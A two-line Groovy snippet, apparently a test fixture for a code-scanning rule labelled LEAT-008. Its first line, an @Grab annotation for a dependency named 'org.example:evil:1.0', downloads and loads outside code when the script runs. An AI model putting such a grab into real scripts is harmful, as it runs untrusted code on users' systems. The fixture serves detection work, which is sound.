@Grab('org.example:evil:1.0') //~ LEAT-008
def x = 1
